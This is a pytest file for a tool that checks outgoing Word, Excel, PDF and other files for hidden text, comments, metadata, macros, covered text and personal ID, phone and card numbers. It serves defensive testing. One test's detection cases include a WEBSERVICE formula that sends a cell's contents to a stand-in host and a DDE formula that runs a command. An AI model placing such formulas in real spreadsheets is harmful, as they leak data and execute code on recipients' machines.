"""What a file holds beside what it shows is told with its place before it goes out."""

import zipfile
from io import BytesIO

import openpyxl
import pytest
import xlsxwriter
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.comments import Comment

from casework import letters, outgoing
from casework.outgoing import look_into, look_through, masked, personal_numbers
from casework.outgoing.personal import is_card, is_identity
from tests.casework.docx_samples import NAMESPACES, docx, p, r
from tests.casework.letter_samples import CASE, samples

IDENTITY, MOBILE, CARD = "110101199003077774", "13912345678", "6222021234567890128"


def told(tmp_path, name: str, data: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    return "\n".join(str(remark) for remark in look_into(path))


def luhn(body: str) -> str:
    return next(body + str(digit) for digit in range(10) if is_card(body + str(digit)))


def test_the_numbers_of_these_tests_are_what_they_seem():
    assert is_identity("11010519491231002X")
    assert not is_identity("110105194912310021")
    assert not is_identity("11010519491331002X")
    assert is_card(luhn("622202123456789012"))


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("身份证号：11010519491231002X。", [("身份证号码", "110*************2X")]),
        ("１１０１０５１９４９１２３１００２Ｘ", [("身份证号码", "110*************2X")]),
        ("电话13912345678，", [("手机号码", "139******78")]),
        ("+86 139-1234-5678", [("手机号码", "139******78")]),
        ("卡号 6222 0212 3456 7890 13", []),
        ("办公电话0791-5550123", []),
        ("文号〔2026〕13912号", []),
        ("合同编号20260213000012345678", []),
        ("统一社会信用代码91360100MA35ABCD1X", []),
        ("金额13912345678.50元", []),
        ("1391234567", []),
        ("139****5678", []),
    ],
)
def test_personal_numbers_are_told_from_other_numbers(text, found):
    assert list(personal_numbers(text)) == found


def test_a_bank_card_may_be_written_in_groups():
    number = luhn("622202123456789012")
    grouped = " ".join(number[at : at + 4] for at in range(0, len(number), 4))
    assert list(personal_numbers(f"账号：{grouped}，")) == [("银行卡号", masked(number))]


@given(st.integers(10**15, 10**19))
def test_what_is_told_is_masked(number):
    for _, shown in personal_numbers(f"x {number} x"):
        assert str(number) not in shown
        assert "*" * 9 in shown


def test_hidden_and_white_text_of_a_document_is_told(tmp_path):
    body = p("甲") + p(
        r("乙"), r("领导批示：暂缓", "<w:vanish/>"), r("看不见", '<w:color w:val="FFFFFF"/>')
    )
    text = told(tmp_path, "a.docx", docx(body))
    assert "第2段“领导批示：暂缓”是隐藏文字" in text
    assert "第2段“看不见”是白色文字" in text


def test_text_hidden_by_its_style_is_told(tmp_path):
    def style(name: str, inner: str) -> str:
        return f'<w:style w:styleId="{name}">{inner}</w:style>'

    vanish = "<w:rPr><w:vanish/></w:rPr>"
    styles = (
        style("Hidden", vanish)
        + style("Below", '<w:basedOn w:val="Hidden"/>')
        + style("Shown", '<w:basedOn w:val="Hidden"/><w:rPr><w:vanish w:val="0"/></w:rPr>')
        + style("One", '<w:basedOn w:val="Two"/>')
        + style("Two", '<w:basedOn w:val="One"/>')
    )
    body = "".join(
        p(r(words, looks))
        for words, looks in (
            ("甲", '<w:rStyle w:val="Hidden"/>'),
            ("乙", '<w:rStyle w:val="Below"/>'),
            ("丙", '<w:rStyle w:val="Shown"/>'),
            ("丁", '<w:rStyle w:val="Hidden"/><w:vanish w:val="off"/>'),
            ("戊", '<w:rStyle w:val="One"/>'),
            ("己", '<w:rStyle w:val="None"/>'),
        )
    )
    body += p(r("庚"), more='<w:pPr><w:pStyle w:val="Below"/></w:pPr>')
    data = docx(body, styles=f"<w:styles {NAMESPACES}>{styles}</w:styles>")
    assert told(tmp_path, "a.docx", data) == (
        "第1段“甲”、第2段“乙”、第7段“庚”是隐藏文字，收件人可以让它显示出来，请删去。"
    )


def test_white_text_on_a_dark_ground_and_text_no_longer_hidden_are_left_alone(tmp_path):
    dark = '<w:color w:val="FFFFFF"/><w:shd w:fill="000000"/>'
    body = p(r("表头", dark), r("显示", '<w:vanish w:val="0"/>'))
    assert told(tmp_path, "a.docx", docx(body)) == ""


def test_comments_changes_and_properties_of_a_document_are_told(tmp_path):
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
        'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>顾清河'
        "</dc:creator></cp:coreProperties>"
    )
    data = docx(
        p("<w:ins><w:r><w:t>甲</w:t></w:r></w:ins>") + p(f"电话{MOBILE}"),
        comments=f'<w:comments {NAMESPACES}><w:comment w:id="1">{p("此处不要公开")}</w:comment>'
        "</w:comments>",
        **{"docProps/core.xml": core, "word/embeddings/x.xlsx": "x", "word/vbaProject.bin": "x"},
    )
    text = told(tmp_path, "a.docx", data)
    assert "1处修订痕迹" in text
    assert "1条批注，如“此处不要公开”" in text
    assert "文件属性里的作者为“顾清河”" in text
    assert "第2段有手机号码“139******78”" in text
    assert "嵌入了其他文件" in text
    assert "带有宏" in text
    assert MOBILE not in text


def test_a_number_split_over_runs_and_one_in_a_header_are_found(tmp_path):
    data = docx(
        p(r("139"), r("1234", "<w:b/>"), r("5678")),
        header1=f"<w:hdr {NAMESPACES}>{p('11010519491231002X')}</w:hdr>",
    )
    text = told(tmp_path, "a.docx", data)
    assert "第1段有手机号码" in text
    assert "页眉第1段有身份证号码" in text


@pytest.mark.parametrize("letter", samples(), ids=lambda letter: letter.kind.key)
def test_our_own_letters_hold_nothing_unseen(letter, tmp_path):
    text = told(tmp_path, "a.docx", letters.render(letter))
    lines = [line for line in text.splitlines() if masked(CASE.phone) not in line]
    assert lines == []


def workbook() -> bytes:
    book = openpyxl.Workbook()
    shown = book.active
    shown.title = "名单"
    shown["A1"], shown["B3"] = "姓名", "11010519491231002X"
    shown["B4"] = 13912345678
    shown["A5"] = "甲"
    shown["A5"].comment = Comment("内部掌握", "顾清河")
    shown.row_dimensions[6].hidden = True
    shown.column_dimensions["D"].hidden = True
    secret = book.create_sheet("测算底稿")
    secret.sheet_state = "hidden"
    secret["A1"] = "甲"
    very = book.create_sheet("很隐蔽")
    very.sheet_state = "veryHidden"
    stream = BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_hidden_sheets_rows_columns_comments_and_numbers_of_a_workbook_are_told(tmp_path):
    text = told(tmp_path, "a.xlsx", workbook())
    for expected in (
        "工作表“测算底稿”是隐藏的",
        "工作表“很隐蔽”是隐藏的",
        "工作表“名单”第6行是隐藏的",
        "工作表“名单”第D列是隐藏的",
        "工作表“名单”A5有批注",
        "工作表“名单”B3有身份证号码“110*************2X”",
        "工作表“名单”B4有手机号码“139******78”",
    ):
        assert expected in text


@pytest.mark.parametrize(
    ("formula", "reaches"),
    [
        ('=WEBSERVICE("http://a.example/?q="&A1)', True),
        ("=cmd|'/c calc'!A0", True),
        ('=IMAGE("http://a.example/x.png")', True),
        ("=SUM(A1:A3)", False),
        ('=A1&"|"&A2', False),
        ('=HYPERLINK("http://a.example")', False),
    ],
)
def test_a_formula_that_reaches_out_is_told_by_its_cell(tmp_path, formula, reaches):
    out = BytesIO()
    with xlsxwriter.Workbook(out) as book:
        book.add_worksheet("汇总").write_formula("B2", formula)
    assert ("工作表“汇总”B2的公式" in told(tmp_path, "表.xlsx", out.getvalue())) is reaches


def test_a_plain_workbook_holds_nothing_unseen(tmp_path):
    stream = BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("表一")
        sheet.write("A1", "合计")
        sheet.write("B1", 20260213)
        sheet.write("C1", "青建办〔2023〕4号")
    assert told(tmp_path, "a.xlsx", stream.getvalue()) == ""


def test_filtered_rows_are_called_so(tmp_path):
    stream = BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("表一")
        sheet.autofilter("A1:A3")
        sheet.set_row(1, None, None, {"hidden": True})
    assert "第2行是隐藏或者筛选掉的" in told(tmp_path, "a.xlsx", stream.getvalue())


def pdf(*pages: str, info: str = "", annots: str = "") -> bytes:
    """A PDF of pages given as drawing operators; text is in Helvetica as /F."""
    objects = ["<< /Type /Catalog /Pages 2 0 R >>", "", ""]
    kids = []
    for operators in pages:
        stream = operators.encode("latin-1")
        objects.append(f"<< /Length {len(stream)} >>\nstream\n{operators}\nendstream")
        content = len(objects)
        objects.append(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents "
            f"{content} 0 R /Resources << /Font << /F 3 0 R >> >> {annots} >>"
        )
        kids.append(f"{len(objects)} 0 R")
    objects[1] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {len(kids)} >>"
    objects[2] = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    objects.append(f"<< {info} >>")
    out, offsets = b"%PDF-1.4\n", []
    for number, words in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{words}\nendobj\n".encode("latin-1")
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    tail = (
        f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n<< /Size "
        f"{len(objects) + 1} /Root 1 0 R /Info {len(objects)} 0 R >>\nstartxref\n{len(out)}\n%%EOF"
    )
    return out + tail.encode("latin-1")


TEXT = "BT /F 14 Tf 20 150 Td (Account of Mr Shen) Tj ET"
BLACK = "0 0 0 rg 15 145 200 20 re f"
WHITE = "1 1 1 rg 15 145 200 20 re f"


@pytest.mark.parametrize(
    ("operators", "expected"),
    [
        pytest.param(f"{TEXT} {BLACK}", "深色方框下面还有可以复制的文字（共", id="black box"),
        pytest.param(f"{TEXT} {WHITE}", "看不见但可以复制的文字", id="white box"),
        pytest.param(f"1 1 1 rg {TEXT}", "看不见但可以复制的文字", id="white on white"),
        pytest.param(f"{BLACK} 0 0 0 rg {TEXT}", "深色方框下面", id="black on black"),
    ],
)
def test_text_that_cannot_be_seen_in_a_pdf_is_told(tmp_path, operators, expected):
    text = told(tmp_path, "a.pdf", pdf(TEXT, operators))
    assert "第2页" in text
    assert expected in text
    assert "第1页" not in text
    assert "Shen" not in text


@pytest.mark.parametrize(
    "operators", [TEXT, f"{BLACK} 1 1 1 rg {TEXT}", f"0.8 g 0 0 300 200 re f 0 g {TEXT}"]
)
def test_text_that_can_be_seen_in_a_pdf_is_left_alone(tmp_path, operators):
    assert told(tmp_path, "a.pdf", pdf(operators)) == ""


@pytest.mark.parametrize("angle", [90, 180, 270])
def test_a_page_may_be_turned(tmp_path, angle):
    turned = f"/Rotate {angle}"
    covered = told(tmp_path, "a.pdf", pdf(f"{TEXT} {BLACK}", annots=turned))
    assert covered.startswith("第1页的深色方框下面还有可以复制的文字")
    assert told(tmp_path, "a.pdf", pdf(TEXT, annots=turned)) == ""


@pytest.mark.parametrize("where", ["20 -60", "400 150"])
def test_text_cut_off_from_a_page_is_told(tmp_path, where):
    beside = f"BT /F 14 Tf {where} Td (Account of Mr Shen) Tj ET"
    assert "看不见但可以复制的文字" in told(tmp_path, "a.pdf", pdf(f"{TEXT} {beside}"))


def test_a_blank_and_a_tiny_text_hide_no_other_behind_them(tmp_path):
    before = "BT /F 2 Tf 20 100 Td (tiny) Tj ET BT /F 14 Tf 20 80 Td (   ) Tj ET "
    text = told(tmp_path, "a.pdf", pdf(f"{before}{TEXT} {BLACK}"))
    assert "第1页的深色方框下面还有可以复制的文字（共18字，以“A”开头）" in text


def test_a_box_drawn_as_a_note_covers_what_is_below_it(tmp_path):
    note = (
        "/Annots [<< /Type /Annot /Subtype /Square /Rect [15 145 215 165] /IC [0 0 0] /C [0 0 0]"
        " /F 4 >>]"
    )
    text = told(tmp_path, "a.pdf", pdf(TEXT, annots=note))
    assert "第1页的深色方框下面还有可以复制的文字" in text
    assert "有1处批注或者涂盖标记" in text


def test_numbers_notes_and_properties_of_a_pdf_are_told(tmp_path):
    data = pdf(
        "BT /F 12 Tf 20 150 Td (Tel 13912345678) Tj ET",
        info="/Author (Gu)",
        annots="/Annots [<< /Type /Annot /Subtype /Text /Rect [10 10 20 20] /Contents (x) >>]",
    )
    text = told(tmp_path, "a.pdf", data)
    assert "第1页有手机号码“139******78”" in text
    assert "作者为“Gu”" in text
    assert "1处批注" in text


def test_a_scan_without_text_says_so(tmp_path):
    assert "各页都是图片" in told(tmp_path, "a.pdf", pdf("0 0 0 rg 10 10 50 50 re f"))


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("a.docx", b"", "空的"),
        ("a.doc", b"\xd0\xcf\x11\xe0xxxx", "旧版格式"),
        ("a.pdf", b"%PDF-1.4 torn", "无法读取"),
        ("a.zip", b"PK\x03\x04", "压缩包"),
        ("a.docx", b"PK\x03\x04 torn", "已经损坏"),
        ("a.jpg", b"\xff\xd8\xff\xe1\x00\x10Exif\x00\x00", "拍摄信息"),
        ("a.csv", "姓名,电话\n甲,13912345678\n".encode("gb18030"), "第2行有手机号码"),
        ("a.bin", b"\x00\x01", "不能查看"),
    ],
)
def test_whatever_cannot_be_looked_into_is_said(tmp_path, name, data, expected):
    assert expected in told(tmp_path, name, data)


def test_of_a_long_text_it_is_said_that_not_all_was_seen(tmp_path, monkeypatch):
    monkeypatch.setattr(outgoing, "_LARGEST_TEXT", 20)
    assert told(tmp_path, "a.txt", b"x" * 20) == ""
    assert told(tmp_path, "a.txt", b"x" * 21) == "文件太大，只查看了前面的部分，其余请自行确认。"


def test_a_missing_file_is_said(tmp_path):
    assert "无法读取" in str(look_through(tmp_path / "a.docx")[0])


BOOK = workbook()


@given(
    st.sampled_from([BOOK, docx(p("甲")), pdf(TEXT)]),
    st.lists(st.tuples(st.floats(0, 0.999), st.integers(0, 255)), max_size=10),
)
@example(pdf(TEXT), [(0.14453125, 0)])
@settings(max_examples=120, deadline=None)
def test_a_damaged_file_never_stops_the_look(tmp_path_factory, data, changes):
    broken = bytearray(data)
    for at, byte in changes:
        broken[int(at * len(broken))] = byte
    path = tmp_path_factory.mktemp("broken") / "a.xlsx"
    path.write_bytes(bytes(broken))
    assert all(str(remark).endswith("。") for remark in look_into(path))


@given(st.integers(0, 2000), st.text('<>/=" 0123x', max_size=6))
@settings(max_examples=100, deadline=None)
def test_a_workbook_with_odd_xml_never_stops_the_look(tmp_path_factory, at, put):
    with zipfile.ZipFile(BytesIO(BOOK)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    parts["xl/worksheets/sheet1.xml"] = (sheet[:at] + put + sheet[at + len(put) :]).encode()
    path = tmp_path_factory.mktemp("odd") / "a.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    look_into(path)


def test_a_page_as_large_as_a_field_is_a_remark_and_no_gigabyte(tmp_path):
    path = tmp_path / "大幅面.pdf"
    path.write_bytes(
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 14400 14400]/Contents 4 0 R>>endobj\n"
        b"4 0 obj<</Length 30>>stream\n0 0 9000 9000 re f 0 g 1 1 1 re\nendstream endobj\n"
        b"trailer<</Root 1 0 R>>\n"
    )
    assert all(isinstance(str(remark), str) for remark in look_through(path))
